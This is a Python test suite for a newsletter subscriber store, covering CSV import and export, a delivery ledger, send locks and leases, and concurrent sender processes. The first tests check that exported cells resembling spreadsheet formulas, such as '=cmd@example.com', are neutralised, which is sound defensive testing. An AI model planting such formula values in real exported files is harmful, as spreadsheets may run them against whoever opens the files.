def test_export_neutralises_formulas_and_import_gives_them_back(
    store: Store, tmp_path: Path
) -> None:
    """Cells a spreadsheet would run get a leading apostrophe; our import takes it off."""
    for i, formula in enumerate(FORMULAS):
        store.add_subscriber(f"r{i}@example.com", formula, {"note": formula, "=key": "\tx"})
    store.add_subscriber("=cmd@example.com", "Plain O'Neil", {"note": "it's fine"})
    out = io.StringIO()
    store.export_csv(out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == ["email", "name", "status", "created_at", "tags", "'=key", "note"]
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert rows[-1][:2] == ["'=cmd@example.com", "Plain O'Neil"] and rows[-1][-1] == "it's fine"
    assert [row[1] for row in rows[1:-1]] == ["'" + formula for formula in FORMULAS]
    with Store.open(":memory:") as fresh:
        report = fresh.import_csv(write(tmp_path / "export.csv", out.getvalue()))
        assert (report.added, report.error_count) == (len(FORMULAS) + 1, 0)
        back = {
            (s.email, s.name, tuple(sorted(s.fields.items()))) for s in fresh.list_subscribers()
        }
    assert back == {
        (s.email, s.name, tuple(sorted(s.fields.items()))) for s in store.list_subscribers()
    }


_CELL = st.text(
    alphabet=st.one_of(
        st.sampled_from("=+-@'\t\" ,;|!"), st.characters(exclude_categories=("Cc", "Cs"))
    ),
    max_size=30,
).map(str.strip)


@given(
    names=st.lists(_CELL, min_size=1, max_size=5),
    notes=st.lists(_CELL, min_size=1, max_size=5),
)
@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
def test_export_then_import_gives_every_value_back(
    tmp_path: Path, names: list[str], notes: list[str]
) -> None:
    with Store.open(":memory:") as source, Store.open(":memory:") as fresh:
        for i, name in enumerate(names):
            source.add_subscriber(f"r{i}@example.com", name, {"note": notes[i % len(notes)]})
        out = io.StringIO()
        source.export_csv(out)
        cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
        report = fresh.import_csv(write(tmp_path / "export.csv", out.getvalue()))
        assert report.error_count == 0, report.errors
        expected = {(s.email, s.name, s.fields.get("note", "")) for s in source.list_subscribers()}
        back = {(s.email, s.name, s.fields.get("note", "")) for s in fresh.list_subscribers()}
    assert back == expected


def test_non_utf8_file_is_one_error_with_its_line(store: Store, tmp_path: Path) -> None:
    csv_file = write(
        tmp_path / "latin.csv",
        "email,name\na@example.com,A\nb@example.com,Zoë\n",
        encoding="latin-1",
    )
    with pytest.raises(StoreError) as info:
        store.import_csv(csv_file)
    assert str(info.value).startswith(f"{csv_file}:3: not UTF-8 text")
    assert store.count() == 0  # nothing imported


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("name,city\nAnn,Oslo\n", "no 'email' column"),
        ("", "the file is empty"),
        ("email,Email\na@example.com,b@example.com\n", "appears twice"),
    ],
)
def test_unusable_header_is_a_store_error_at_line_1(
    store: Store, tmp_path: Path, text: str, message: str
) -> None:
    csv_file = write(tmp_path / "bad.csv", text)
    with pytest.raises(StoreError, match=message) as info:
        store.import_csv(csv_file)
    assert info.value.where == f"{csv_file}:1"


def test_missing_file_is_a_store_error(store: Store, tmp_path: Path) -> None:
    with pytest.raises(StoreError, match="cannot read the file"):
        store.import_csv(tmp_path / "nope.csv")


# --- the ledger -----------------------------------------------------------------------------


def test_snapshot_fixes_recipients(store: Store) -> None:
    assert store.snapshot_recipients(ISSUE) == 0  # nobody active: nothing fixed yet
    assert store.issue_snapshot(ISSUE) is None
    ids = add_many(store, 3)
    store.set_status(ids[2], Status.UNSUBSCRIBED, "test")
    assert store.snapshot_recipients(ISSUE) == 2
    late = store.add_subscriber("late@example.com").id
    assert store.snapshot_recipients(ISSUE) == 0  # later subscribers are not added silently
    assert store.ledger_entry(ISSUE, late) is None
    assert store.snapshot_recipients(ISSUE, include_new=True) == 1
    assert store.snapshot_recipients(ISSUE, include_new=True) == 0
    snapshot = store.issue_snapshot(ISSUE)
    assert snapshot is not None and snapshot.recipients == 3
    assert [s.issue_key for s in store.issues_with_deliveries()] == [ISSUE]
    assert store.ledger_counts(ISSUE)[DeliveryState.QUEUED] == 3


def test_claim_and_record(store: Store) -> None:
    ids = add_many(store, 5)
    store.snapshot_recipients(ISSUE)
    first = store.claim_batch(ISSUE, "w1", 3)
    assert [c.subscriber.id for c in first] == ids[:3]
    assert first[0].subscriber.email == "reader0@example.com" and first[0].attempts == 1
    assert store.ledger_counts(ISSUE)[DeliveryState.SENDING] == 3
    recorded = store.record_results(
        [
            result(ids[0], DeliveryState.SENT, message_id="<m0@example.org>"),
            result(ids[1], DeliveryState.FAILED, "550 5.1.1 no such user"),
            result(ids[2], DeliveryState.DEFERRED, "451 try later"),
        ]
    )
    assert recorded == 3
    assert store.record_results([result(ids[0], DeliveryState.FAILED, "late")]) == 0  # not sending
    entry = store.ledger_entry(ISSUE, "reader0@example.com")
    assert entry is not None and entry.state == DeliveryState.SENT and entry.sent_at is not None
    assert entry.message_id == "<m0@example.org>"
    rest = store.claim_batch(ISSUE, "w1", 10)  # the parked deferred row waits for the next run
    assert [c.subscriber.id for c in rest] == ids[3:]
    assert store.claim_batch(ISSUE, "w1", 10) == []
    problems = store.ledger_problems(ISSUE)
    assert [(p.email, p.state, p.last_reply) for p in problems] == [
        ("reader2@example.com", DeliveryState.DEFERRED, "451 try later"),
        ("reader1@example.com", DeliveryState.FAILED, "550 5.1.1 no such user"),
    ]


def test_deferred_rows_come_back_when_due(store: Store) -> None:
    a, b = add_many(store, 2)
    store.snapshot_recipients(ISSUE)
    store.claim_batch(ISSUE, "w", 2)
    soon = datetime.now(UTC) - timedelta(seconds=1)
    later = datetime.now(UTC) + timedelta(hours=1)
    store.record_results(
        [
            result(a, DeliveryState.DEFERRED, "451", retry_at=soon),
            result(b, DeliveryState.DEFERRED, "452", retry_at=later),
        ]
    )
    assert store.next_retry_at(ISSUE) == soon
    again = store.claim_batch(ISSUE, "w", 5)
    assert [c.subscriber.id for c in again] == [a] and again[0].attempts == 2
    assert store.next_retry_at(ISSUE) == later


def test_the_next_run_retries_parked_deferred_rows(db_path: Path) -> None:
    with Store.open(db_path) as db:
        (a,) = add_many(db, 1)
        db.snapshot_recipients(ISSUE)
        with db.acquire_send_lock(ISSUE):
            db.claim_batch(ISSUE, "w", 1)
            db.record_results([result(a, DeliveryState.DEFERRED, "451")])
            assert db.claim_batch(ISSUE, "w", 1) == []
        with db.acquire_send_lock(ISSUE):
            assert [c.subscriber.id for c in db.claim_batch(ISSUE, "w", 1)] == [a]


def test_unsubscribe_during_a_send_is_honoured(store: Store) -> None:
    ids = add_many(store, 5)
    store.snapshot_recipients(ISSUE)
    store.claim_batch(ISSUE, "w", 2)
    store.set_status(ids[3], Status.UNSUBSCRIBED, "link")
    rest = store.claim_batch(ISSUE, "w", 10)
    assert [c.subscriber.id for c in rest] == [ids[2], ids[4]]
    entry = store.ledger_entry(ISSUE, ids[3])
    assert entry is not None and entry.state == DeliveryState.CANCELLED
    assert "unsubscribed" in entry.last_reply


def test_bounce_on_5xx_marks_the_subscriber(store: Store) -> None:
    a, b = add_many(store, 2)
    store.snapshot_recipients(ISSUE)
    store.claim_batch(ISSUE, "w", 2)
    store.record_results(
        [
            result(a, DeliveryState.FAILED, "550 no such user", bounce=True),
            result(b, DeliveryState.FAILED, "554 policy"),
        ]
    )
    bounced = store.get_subscriber(a)
    assert bounced is not None and bounced.status == Status.BOUNCED
    events = store.subscriber_events(a)
    assert events[-1].reason == "smtp-5xx" and "550 no such user" in events[-1].detail
    other = store.get_subscriber(b)
    assert other is not None and other.status == Status.ACTIVE


def test_a_sent_message_is_found_by_its_message_id_with_or_without_brackets(
    store: Store,
) -> None:
    a, b = add_many(store, 2)
    store.snapshot_recipients(ISSUE)
    store.claim_batch(ISSUE, "w", 2)
    store.record_results(
        [
            result(a, DeliveryState.SENT, message_id="<one.1@example.org>"),
            result(b, DeliveryState.SENT, message_id="two.2@example.org"),
        ]
    )
    for quoted in ("<one.1@example.org>", "one.1@example.org", " < one.1@example.org > "):
        assert store.delivery_for_message_id(quoted) == (ISSUE, a)
    assert store.delivery_for_message_id("<two.2@example.org>") == (ISSUE, b)
    for unknown in ("", " <> ", "<three.3@example.org>"):
        assert store.delivery_for_message_id(unknown) is None


def test_results_are_only_sent_failed_deferred_or_uncertain() -> None:
    with pytest.raises(ValueError, match="sent, failed, deferred or uncertain"):
        DeliveryResult(ISSUE, 1, DeliveryState.QUEUED)


def test_an_uncertain_result_is_recorded_as_uncertain(db_path: Path) -> None:
    with Store.open(db_path) as store:
        sub = store.add_subscriber("lost-reply@example.com")
        with store.acquire_send_lock(ISSUE) as lock:
            store.snapshot_recipients(ISSUE)
            [claimed] = store.claim_batch(ISSUE, lock.run_id, 10)
            store.record_results(
                [
                    DeliveryResult(
                        ISSUE, sub.id, DeliveryState.UNCERTAIN, "timeout after the final dot"
                    )
                ]
            )
        entry = store.ledger_entry(ISSUE, sub.id)
        assert claimed.subscriber.id == sub.id
        assert entry is not None and entry.state == DeliveryState.UNCERTAIN
        assert entry.last_reply == "timeout after the final dot"


def test_a_second_lock_on_the_same_issue_is_refused(db_path: Path) -> None:
    with Store.open(db_path) as first, Store.open(db_path) as second:
        with first.acquire_send_lock(ISSUE) as lock:
            assert lock.run_id
            busy = f"another send of issue {ISSUE} is running"
            with pytest.raises(DeliveryError, match=busy), second.acquire_send_lock(ISSUE):
                pass
            with second.acquire_send_lock("other-issue"):
                pass  # other issues are independent
        with second.acquire_send_lock(ISSUE):  # released
            pass


def test_memory_store_lock_is_exclusive_too(store: Store) -> None:
    with store.acquire_send_lock(ISSUE), pytest.raises(DeliveryError):  # noqa: SIM117
        with store.acquire_send_lock(ISSUE):
            pass


def test_marking_crashed_rows_needs_the_lock(store: Store) -> None:
    with pytest.raises(RuntimeError, match="needs the send lock"):
        store.mark_crashed_as_uncertain(ISSUE)


CLAIM_AND_HANG = """
import sys
from pathlib import Path
from newsletter.store import Store
store = Store.open(Path(sys.argv[1]))
with store.acquire_send_lock(sys.argv[2]) as lock:
    claimed = store.claim_batch(sys.argv[2], lock.run_id, int(sys.argv[3]))
    print(" ".join(str(c.subscriber.id) for c in claimed), flush=True)
    sys.stdin.readline()  # "sending" until killed
"""


@pytest.mark.server
def test_a_killed_send_leaves_uncertain_rows(db_path: Path) -> None:
    with Store.open(db_path) as db:
        ids = add_many(db, 8)
        db.snapshot_recipients(ISSUE)
    proc = child(CLAIM_AND_HANG, str(db_path), ISSUE, "5")
    try:
        assert proc.stdout is not None
        claimed = [int(x) for x in proc.stdout.readline().split()]
        assert claimed == ids[:5]
        with Store.open(db_path) as db:
            with pytest.raises(DeliveryError, match=f"pid {proc.pid}"), db.acquire_send_lock(ISSUE):
                pass
            assert db.ledger_counts(ISSUE)[DeliveryState.SENDING] == 5  # live run: untouched
    finally:
        proc.send_signal(signal.SIGKILL)
        proc.wait()
    assert proc.returncode == -signal.SIGKILL
    with Store.open(db_path) as db:
        [dead] = db.senders(ISSUE)
        assert (dead.pid, dead.claimed, dead.state) == (proc.pid, 5, "running")
        with db.acquire_send_lock(ISSUE) as lock:
            assert lock.uncertain == 5
            assert [r.run_id for r in db.senders(ISSUE)] == [lock.run_id]
            assert db.senders(ISSUE, finished=True)[0].state == "expired"
            counts = db.ledger_counts(ISSUE)
            assert (counts[DeliveryState.UNCERTAIN], counts[DeliveryState.QUEUED]) == (5, 3)
            rest = db.claim_batch(ISSUE, "w", 10)  # uncertain rows are not resent by default
            assert [c.subscriber.id for c in rest] == ids[5:]
            db.record_results([result(c.subscriber.id, DeliveryState.SENT) for c in rest])
        problems = db.ledger_problems(ISSUE)
        assert {p.subscriber_id for p in problems} == set(ids[:5])
        assert all("interrupted while sending" in p.last_reply for p in problems)
        assert db.resend_uncertain(ISSUE) == 5
        with db.acquire_send_lock(ISSUE) as lock:
            assert lock.uncertain == 0
            again = db.claim_batch(ISSUE, "w", 10)
            assert [c.subscriber.id for c in again] == ids[:5]
            assert all(c.attempts == 2 for c in again)


CLAIM_ALL = """
import sys
from pathlib import Path
from newsletter.models import DeliveryResult, DeliveryState
from newsletter.store import Store
store = Store.open(Path(sys.argv[1]))
print("ready", flush=True)
sys.stdin.readline()
ids = []
while batch := store.claim_batch(sys.argv[2], sys.argv[3], 7):
    ids += [c.subscriber.id for c in batch]
    store.record_results(
        [DeliveryResult(sys.argv[2], c.subscriber.id, DeliveryState.SENT) for c in batch]
    )
print(" ".join(map(str, ids)), flush=True)
"""


@pytest.mark.server
def test_two_processes_never_claim_the_same_row(db_path: Path) -> None:
    with Store.open(db_path) as db:
        db.import_csv(
            write(
                db_path.parent / "list.csv",
                "email\n" + "".join(f"r{i}@example.com\n" for i in range(600)),
            )
        )
        db.snapshot_recipients(ISSUE)
    procs = [child(CLAIM_ALL, str(db_path), ISSUE, f"worker{i}") for i in range(2)]
    try:
        for proc in procs:
            assert proc.stdout is not None and proc.stdout.readline() == "ready\n"
        for proc in procs:
            assert proc.stdin is not None
            proc.stdin.write("go\n")
            proc.stdin.flush()
        claims = [[int(x) for x in proc.communicate(timeout=60)[0].split()] for proc in procs]
    finally:
        for proc in procs:
            if proc.poll() is None:
                proc.kill()
    assert all(proc.returncode == 0 for proc in procs)
    first, second = (set(c) for c in claims)
    assert len(first) == len(claims[0]) and len(second) == len(claims[1])
    assert not first & second
    with Store.open(db_path) as db:
        assert first | second == {s.id for s in db.list_subscribers()}
        assert db.ledger_counts(ISSUE)[DeliveryState.SENT] == 600


OPEN_AND_ADD = """
import sys
from pathlib import Path
from newsletter.store import Store
print("ready", flush=True)
sys.stdin.readline()
with Store.open(Path(sys.argv[1])) as store:
    store.add_subscriber(f"p{sys.argv[2]}@example.com")
"""


@pytest.mark.server
def test_processes_creating_one_database_at_once(db_path: Path) -> None:
    procs = [child(OPEN_AND_ADD, str(db_path), str(i)) for i in range(4)]
    try:
        for proc in procs:
            assert proc.stdout is not None and proc.stdout.readline() == "ready\n"
        for proc in procs:
            assert proc.stdin is not None
            proc.stdin.write("go\n")
            proc.stdin.flush()
        for proc in procs:
            proc.communicate(timeout=60)
    finally:
        for proc in procs:
            if proc.poll() is None:
                proc.kill()
    assert [proc.returncode for proc in procs] == [0, 0, 0, 0]
    with Store.open(db_path) as db:
        assert db.schema_version == len(MIGRATIONS)
        assert db.count() == 4


def test_an_import_from_a_pipe_reads_it_once_and_still_checks_every_row(
    store: Store, tmp_path: Path
) -> None:
    """A pipe cannot be scanned for NUL characters first and read again: its rows are
    checked one by one (a regression: the scan used to consume the pipe)."""
    fifo = tmp_path / "list.csv"
    os.mkfifo(fifo)
    text = "email,name\nann@example.com,Ann\nnul@example.com,Bad\x00Name\nbob@example.com,Bob\n"

    def feed() -> None:
        with fifo.open("w", encoding="utf-8") as writer:
            writer.write(text)

    writer = threading.Thread(target=feed)
    writer.start()
    try:
        report = store.import_csv(fifo)
    finally:
        writer.join()
    assert (report.added, report.error_count) == (2, 1)
    assert report.errors[0].line == 3
    assert [s.email for s in store.list_subscribers()] == ["ann@example.com", "bob@example.com"]


# --- the runs that send: one at a time on SQLite, any number on PostgreSQL ----------------


def test_a_run_is_listed_while_it_sends_with_its_counts_and_rate(store: Store) -> None:
    add_many(store, 4)
    store.snapshot_recipients(ISSUE)
    assert store.senders(ISSUE) == []
    with store.acquire_send_lock(ISSUE) as lock:
        [run] = store.senders(ISSUE)
        assert (run.run_id, run.host, run.pid) == (lock.run_id, socket.gethostname(), os.getpid())
        assert (run.state, run.responding, run.sent) == ("running", True, 0)
        claimed = store.claim_batch(ISSUE, lock.run_id, 3)
        recorded = store.record_results(
            [result(c.subscriber.id, DeliveryState.SENT) for c in claimed[:2]]
            + [result(claimed[2].subscriber.id, DeliveryState.FAILED, "550 no")],
            run_id=lock.run_id,
        )
        assert recorded == 3
        [run] = store.senders(ISSUE)
        assert (run.claimed, run.sent, run.failed, run.uncertain) == (3, 2, 1, 0)
        assert run.rate > 0 and run.heartbeat_age < 30
        assert run.lease_until > run.heartbeat_at >= run.started_at
    assert store.senders(ISSUE) == []
    [done] = store.senders(ISSUE, finished=True)
    assert (done.run_id, done.state, done.sent) == (lock.run_id, "finished", 2)
    assert done.finished_at is not None and not done.responding


def test_results_are_recorded_only_for_the_run_that_claimed_the_rows(store: Store) -> None:
    add_many(store, 2)
    store.snapshot_recipients(ISSUE)
    with store.acquire_send_lock(ISSUE) as lock:
        claimed = store.claim_batch(ISSUE, lock.run_id, 2)
        sent = [result(c.subscriber.id, DeliveryState.SENT) for c in claimed]
        assert store.record_results(sent, run_id="another-run") == 0
        assert store.ledger_counts(ISSUE)[DeliveryState.SENDING] == 2
        assert store.record_results(sent, run_id=lock.run_id) == 2
        assert store.senders(ISSUE)[0].sent == 2


def test_senders_on_postgresql_share_an_issue_and_pass_over_rows_another_holds(
    pg: Database,
) -> None:
    with Store.open(pg) as first, Store.open(pg) as second:
        ids = add_many(first, 10)
        first.snapshot_recipients(ISSUE)
        with first.acquire_send_lock(ISSUE) as one, second.acquire_send_lock(ISSUE) as two:
            assert {r.run_id for r in first.senders(ISSUE)} == {one.run_id, two.run_id}
            assert first.pacing_share() == 2
            mine = first.claim_batch(ISSUE, one.run_id, 3)
            assert [c.subscriber.id for c in mine] == ids[:3]
            # Another claim in progress holds the next two rows: passed over, not waited for.
            holder = connect(pg)
            holder.begin(exclusive=False)
            holder.execute(
                "SELECT 1 FROM deliveries WHERE subscriber_id IN (?, ?) FOR UPDATE",
                (ids[3], ids[4]),
            )
            got: list[int] = []
            claim = threading.Thread(
                target=lambda: got.extend(
                    c.subscriber.id for c in second.claim_batch(ISSUE, two.run_id, 3)
                )
            )
            claim.start()
            claim.join(10)
            assert not claim.is_alive(), "the claim waited for rows another claim holds"
            holder.rollback()
            holder.close()
            assert got == ids[5:8]
            rest = second.claim_batch(ISSUE, two.run_id, 10)
            # The rows ahead of this store's last claim first, then those passed over.
            assert [c.subscriber.id for c in rest] == [*ids[8:], ids[3], ids[4]]
            assert first.rows_in_flight(ISSUE, besides=one.run_id) == 7
            assert first.rows_in_flight(ISSUE) == 10
            # Neither run's rows are the other's to record.
            assert (
                first.record_results(
                    [result(i, DeliveryState.SENT) for i in got], run_id=one.run_id
                )
                == 0
            )
            assert (
                second.record_results(
                    [result(i, DeliveryState.SENT) for i in got], run_id=two.run_id
                )
                == 3
            )


def claim_and_hang(database: Database, lease: float, count: int) -> subprocess.Popen[str]:
    """A child process that registers a run with a short lease, claims ``count`` rows,
    prints their ids, then waits for a line: "record" records them sent, then it claims
    again and prints what came of each."""
    code = """
import sys
from newsletter.errors import DeliveryError
from newsletter.models import DeliveryResult, DeliveryState
from newsletter.store import Store
store = Store.open(sys.argv[1])
with store.acquire_send_lock(sys.argv[2], lease_seconds=float(sys.argv[3])) as lock:
    claimed = store.claim_batch(sys.argv[2], lock.run_id, int(sys.argv[4]))
    print(lock.run_id, *(c.subscriber.id for c in claimed), flush=True)
    sys.stdin.readline()
    results = [DeliveryResult(sys.argv[2], c.subscriber.id, DeliveryState.SENT) for c in claimed]
    print("recorded", store.record_results(results, run_id=lock.run_id), flush=True)
    try:
        store.claim_batch(sys.argv[2], lock.run_id, 1)
    except DeliveryError as exc:
        print("claim:", exc, flush=True)
"""
    return child(code, str(database), ISSUE, str(lease), str(count))


def run_of(store: Store, run_id: str) -> SenderRun:
    [run] = [r for r in store.senders(ISSUE, finished=True) if r.run_id == run_id]
    return run


@pytest.mark.server
def test_a_killed_sender_keeps_its_rows_while_its_lease_lasts_then_they_are_uncertain(
    pg: Database,
) -> None:
    with Store.open(pg) as store:
        ids = add_many(store, 8)
        store.snapshot_recipients(ISSUE)
        proc = claim_and_hang(pg, 1.0, 5)
        try:
            assert proc.stdout is not None
            run_id, *claimed = proc.stdout.readline().split()
            assert [int(x) for x in claimed] == ids[:5]
            started = run_of(store, run_id).started_at
            # Its heartbeat renews the lease: alive past its first lease, it keeps its rows.
            wait_until(lambda: run_of(store, run_id).heartbeat_at > started + timedelta(seconds=1))
            with store.acquire_send_lock(ISSUE) as lock:
                assert lock.uncertain == 0
                assert [c.subscriber.id for c in store.claim_batch(ISSUE, lock.run_id, 1)] == [
                    ids[5]
                ]
                assert store.ledger_counts(ISSUE)[DeliveryState.SENDING] == 6
                proc.send_signal(signal.SIGKILL)
                assert proc.wait(30) == -signal.SIGKILL
                wait_until(lambda: not run_of(store, run_id).responding)
                # The next claim of a live sender expires the dead run first.
                rest = store.claim_batch(ISSUE, lock.run_id, 10)
                assert [c.subscriber.id for c in rest] == ids[6:]
                assert store.found_uncertain(ISSUE) == 5
                counts = store.ledger_counts(ISSUE)
                assert (counts[DeliveryState.UNCERTAIN], counts[DeliveryState.SENDING]) == (5, 3)
                assert run_of(store, run_id).state == "expired"
                assert store.rows_in_flight(ISSUE, besides=lock.run_id) == 0
        finally:
            if proc.poll() is None:
                proc.kill()
            proc.communicate()
        problems = store.ledger_problems(ISSUE)
        assert {p.subscriber_id for p in problems} == set(ids[:5])
        assert all(f"interrupted while sending (run {run_id})" in p.last_reply for p in problems)


@pytest.mark.server
def test_a_sender_that_lost_its_lease_records_nothing_and_claims_no_more(pg: Database) -> None:
    with Store.open(pg) as store:
        ids = add_many(store, 5)
        store.snapshot_recipients(ISSUE)
        proc = claim_and_hang(pg, 1.0, 3)
        try:
            assert proc.stdout is not None and proc.stdin is not None
            run_id, *_ = proc.stdout.readline().split()
            proc.send_signal(signal.SIGSTOP)  # frozen: a stalled machine, a long GC pause
            wait_until(lambda: not run_of(store, run_id).responding)
            with store.acquire_send_lock(ISSUE) as lock:
                assert lock.uncertain == 3
                assert [c.subscriber.id for c in store.claim_batch(ISSUE, lock.run_id, 5)] == (
                    ids[3:]
                )
            proc.send_signal(signal.SIGCONT)
            proc.stdin.write("record\n")
            proc.stdin.flush()
            out, _ = proc.communicate(timeout=30)
        finally:
            if proc.poll() is None:
                proc.kill()
        assert "recorded 0" in out
        assert "lost its lease" in out
        counts = store.ledger_counts(ISSUE)
        assert (counts[DeliveryState.UNCERTAIN], counts[DeliveryState.SENDING]) == (3, 2)
        assert run_of(store, run_id).state == "expired"
